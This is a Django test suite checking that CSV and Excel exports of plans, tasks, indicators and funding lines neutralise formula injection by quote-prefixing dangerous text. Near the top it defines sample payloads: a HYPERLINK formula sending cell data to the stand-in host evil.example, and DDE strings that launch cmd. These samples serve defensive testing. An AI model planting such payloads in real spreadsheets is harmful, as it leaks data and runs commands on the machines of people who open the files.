"""Formula (CSV) injection: every export writes stored text that begins with =, +, -, @, a tab or a
carriage return so that a spreadsheet shows it as text — CSV with a leading ', Excel as a
quote-prefixed text cell — and numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import django_tables2 as tables
import openpyxl
import pytest
from django.urls import reverse
from django.utils.html import format_html

from common.exports import csv_text, csv_value, is_dangerous, xlsx_bytes
from common.views import export_table
from evaluation import services as evaluation_services
from evaluation.models import GeneratedReport
from funding import services as funding_services
from supervision.models import SupervisionNotice
from supervision.notices import notice_issue
from tasks import progress
from tasks.breakdown_table import read_breakdown_table
from tasks.services import plan_export
from tests.factories import UserFactory
from tests.indicators.conftest import make_indicator

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3+cmd|' /C notepad'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
DANGEROUS = [HYPERLINK, DDE, PLUS, MINUS, TAB, CR]


# --- the helpers ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS)
def test_dangerous_text_is_quoted_in_csv(value):
    assert csv_value(value) == "'" + value
    (row,) = list(csv.reader(io.StringIO(csv_text([[value]]), newline="")))
    assert row == ["'" + value]


@pytest.mark.parametrize(
    "value", [-5, Decimal("-3.50"), -0.25, 0, datetime.date(2024, 1, 1), None, "普通文字", "1-2", "a=b", "", "-3.5", "+12%", "-1,200.00", "-5‰"]
)
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert csv_value(value) == value


def test_excel_cells_of_dangerous_text_are_quote_prefixed_text_and_numbers_stay_numbers():
    data = xlsx_bytes([["名称", "数值"], *[[value, -1.5] for value in DANGEROUS], ["正常", Decimal("-7")]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for row, value in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row, 1)
        assert cell.value == value.replace("\r", "\n") and cell.data_type == "s" and cell.quotePrefix  # XML reads CR as LF
        assert sheet.cell(row, 2).value == -1.5 and sheet.cell(row, 2).data_type == "n"
    assert sheet.cell(len(DANGEROUS) + 2, 2).value == -7
    assert not sheet.cell(len(DANGEROUS) + 2, 1).quotePrefix


# --- every export ---------------------------------------------------------------------------------


def assert_csv_safe(content: bytes, *expected: str) -> None:
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    unsafe = [cell for cell in cells if is_dangerous(cell)]
    assert not unsafe, f"cells a spreadsheet would run: {unsafe}"
    for value in expected:
        assert "'" + value in cells, f"{value!r} is not in the export: {cells}"


def assert_xlsx_safe(content: bytes, *expected: str) -> openpyxl.worksheet.worksheet.Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    unprefixed = [c.coordinate for c in cells if is_dangerous(c.value) and not c.quotePrefix]
    assert not unprefixed, f"formula-like text without the quote prefix: {unprefixed}"
    values = {c.value for c in cells}
    for value in (v.replace("\r", "\n") for v in expected):  # XML reads a CR as a LF
        assert value in values, f"{value!r} is not in the export"
    return sheet


@pytest.fixture
def hostile(plan, task_a, dept_a, dept_b, liaison_a, supervisor):
    """Stored text of every kind beginning with a formula character."""
    task_a.title = HYPERLINK
    task_a.save(update_fields=["title"])
    dept_a.short_name = dept_a.name = MINUS
    dept_a.save(update_fields=["short_name", "name"])
    period = progress.reporting_period(plan=plan, cadence="quarterly", year=2024, number=2)
    progress.report_open(task=task_a, period=period, department=dept_a)
    notice_issue(task=task_a, department=dept_a, level=SupervisionNotice.Level.BLUE, requirements=TAB, user=supervisor)
    make_indicator(plan, dept_a, name=PLUS, baseline_value=Decimal("-3.5"))
    funding_services.line_create(
        plan=plan, fiscal_year=2024, source="local_budget", budget_subject="2100206", purpose=DDE, department=dept_a, tasks=[task_a], user=supervisor
    )
    GeneratedReport.objects.create(plan=plan, kind=GeneratedReport.Kind.FINAL, version=1, requested_by=UserFactory(display_name=CR, username="cr"))
    return plan


EXPORTS = [
    # (url name, takes the plan's pk, who asks, the dangerous values it shows)
    ("tasks:task_list", True, "supervisor", [HYPERLINK, MINUS]),
    ("inbox:inbox", False, "liaison_a", [MINUS]),
    ("supervision:notice_list", False, "supervisor", [MINUS]),
    ("indicators:indicator_list", False, "supervisor", [PLUS, MINUS]),
    ("funding:line_list", False, "supervisor", [DDE, MINUS]),
    ("evaluation:report_list", False, "supervisor", [CR]),
]


@pytest.mark.django_db
@pytest.mark.parametrize("url_name, with_plan, who, expected", EXPORTS, ids=[e[0] for e in EXPORTS])
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_table_export_neutralises_formulas(request, client, hostile, url_name, with_plan, who, expected, export_format):
    client.force_login(request.getfixturevalue(who))
    url = reverse(url_name, args=[hostile.pk] if with_plan else [])
    response = client.get(url, {"_export": export_format})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    if export_format == "csv":
        assert_csv_safe(response.getvalue(), *expected)
    else:
        assert_xlsx_safe(response.getvalue(), *expected)


@pytest.mark.django_db
def test_the_indicator_export_quotes_a_negative_baseline_shown_as_text(client, supervisor, hostile):
    """The table shows the baseline as text ("-3.5%（2020）"): text beginning with - is quoted."""
    client.force_login(supervisor)
    response = client.get(reverse("indicators:indicator_list"), {"_export": "csv"})
    assert_csv_safe(response.getvalue(), PLUS, "-3.5%（2020）")


class NumbersTable(tables.Table):
    name = tables.Column()
    amount = tables.Column()
    share = tables.Column()
    badge = tables.Column()

    def render_badge(self, value):
        return format_html('<span class="badge">{}</span>', value)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_table_keeps_numbers_and_signed_number_text_and_strips_html(export_format):
    table = NumbersTable(
        [
            {"name": HYPERLINK, "amount": -1200, "share": "-3.5", "badge": "=1+2"},
            {"name": "正常", "amount": Decimal("-0.50"), "share": "+12%", "badge": "已下发"},
        ]
    )
    response = export_table(table, export_format, "numbers")
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
        assert rows[1] == ["'" + HYPERLINK, "-1200", "-3.5", "'=1+2"]
        assert rows[2] == ["正常", "-0.50", "+12%", "已下发"]
    else:
        sheet = assert_xlsx_safe(response.getvalue(), HYPERLINK, "=1+2")
        assert [c.value for c in sheet[2]][1:3] == [-1200, "-3.5"] and sheet["B2"].data_type == "n"
        assert sheet["B3"].value == -0.5 and sheet["D3"].value == "已下发"


@pytest.mark.django_db
def test_other_tablib_formats_are_not_offered(client, supervisor, hostile):
    client.force_login(supervisor)
    for export_format in ("ods", "tsv", "json", "xls", "yaml", "latex"):
        response = client.get(reverse("tasks:task_list", args=[hostile.pk]), {"_export": export_format})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html"), export_format


@pytest.mark.django_db
def test_the_plan_export_neutralises_formulas_and_still_reads_back(client, supervisor, hostile, task_a):
    client.force_login(supervisor)
    response = client.get(reverse("tasks:plan_export", args=[hostile.pk]))
    assert response.status_code == 200
    assert_xlsx_safe(response.content, HYPERLINK)
    table = read_breakdown_table(plan_export(plan=hostile))
    assert HYPERLINK in [task.title for task in table.tasks]


def test_the_scorecards_neutralise_formulas_and_keep_numbers(monkeypatch):
    criteria = [SimpleNamespace(name=DDE, weight=Decimal("50")), SimpleNamespace(name="效果", weight=Decimal("50"))]
    evaluation = SimpleNamespace(title=HYPERLINK, rubric=SimpleNamespace(criteria=SimpleNamespace(all=lambda: criteria)))
    rows = [
        SimpleNamespace(
            rank=1, department=SimpleNamespace(name=MINUS), weighted_total=Decimal("-1.5"),
            means=[Decimal("-2"), None], disagreements=[False, True],
        )
    ]
    monkeypatch.setattr(evaluation_services, "department_scorecards", lambda evaluation: rows)
    sheet = assert_xlsx_safe(evaluation_services.scorecards_xlsx(evaluation), HYPERLINK, MINUS)
    assert sheet["C3"].value == -1.5 and sheet["C3"].data_type == "n"
    assert sheet["D3"].value == -2
    assert any(isinstance(c.value, str) and c.value.startswith(DDE) and c.quotePrefix for c in sheet[2])


def test_every_spreadsheet_writer_in_the_code_goes_through_the_guard():
    """A new export must use common.exports: workbooks call neutralise_sheet (or set_cell / xlsx_bytes),
    CSV goes through csv_text, and nobody uses tablib's exporters directly."""
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "common/exports.py")) or "/migrations/" in relative:
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook(" in source and not re.search(r"neutralise_sheet|set_cell|xlsx_bytes", source):
            offenders.append(f"{relative}: writes a workbook without common.exports")
        if "TableExport" in source or "csv.writer" in source or "tablib" in source:
            offenders.append(f"{relative}: exports without common.exports")
    assert not offenders, offenders
